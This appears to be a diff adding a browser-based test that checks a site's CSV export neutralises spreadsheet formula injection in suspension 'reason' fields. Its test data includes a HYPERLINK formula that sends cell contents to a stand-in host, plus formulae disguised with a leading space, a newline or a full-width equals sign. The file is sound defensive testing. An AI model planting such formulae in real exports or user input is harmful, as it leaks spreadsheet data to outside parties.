@@ -1,0 +1,48 @@
+import { afterAll, beforeAll, expect, test } from '@jest/globals'
+import { readFileSync } from 'node:fs'
+import type { Browser } from 'playwright-core'
+import { ADMIN } from '../world/world.js'
+import { openChromium } from './chromium.js'
+import { inChromium } from './in-chromium.js'
+import { openSite, type Site } from './site.js'
+import { Visitor } from './visitor.js'
+
+const IMPOSE = `mutation ($input: ImposeSuspensionInput!) {
+  imposeSuspension(input: $input) { status }
+}`
+
+/** Text that a spreadsheet would compute, were it the beginning of a cell. */
+const FORMULAE = [
+  '=HYPERLINK("https://elsewhere.example/?"&A1)\nand a second line', ' =1+1', '\n=2+2', '＝3+3',
+]
+
+inChromium('somebody in whose way others put something', () => {
+  let browser: Browser
+  let site: Site
+  let asha: Visitor
+  beforeAll(async () => {
+    ;[browser, site] = await Promise.all([openChromium(), openSite()])
+    asha = await Visitor.open(browser, site.address)
+    await asha.signIn('asha.patel')
+  }, 60_000)
+  afterAll(async () => {
+    await browser.close()
+    await site.close()
+  })
+
+  test('is handed no formula, however it is hidden in what others wrote', async () => {
+    for (const reason of FORMULAE) {
+      const clause = { activities: ['UPLOAD'], regions: ['Q31'] }
+      const input = { programme: 'SCR', scope: [clause], strength: 'BINDING', reason }
+      await site.world.must(IMPOSE, { input }, ADMIN)
+    }
+    await asha.go('/suspensions')
+    const download = asha.page.waitForEvent('download')
+    await asha.page.getByRole('button', { name: 'Export CSV' }).click()
+    const text = readFileSync(await (await download).path(), 'utf8')
+    for (const reason of FORMULAE) {
+      const quoted = reason.replaceAll('"', '""')
+      expect(text).toContain(`"'${quoted}"`)
+    }
+  })
+})
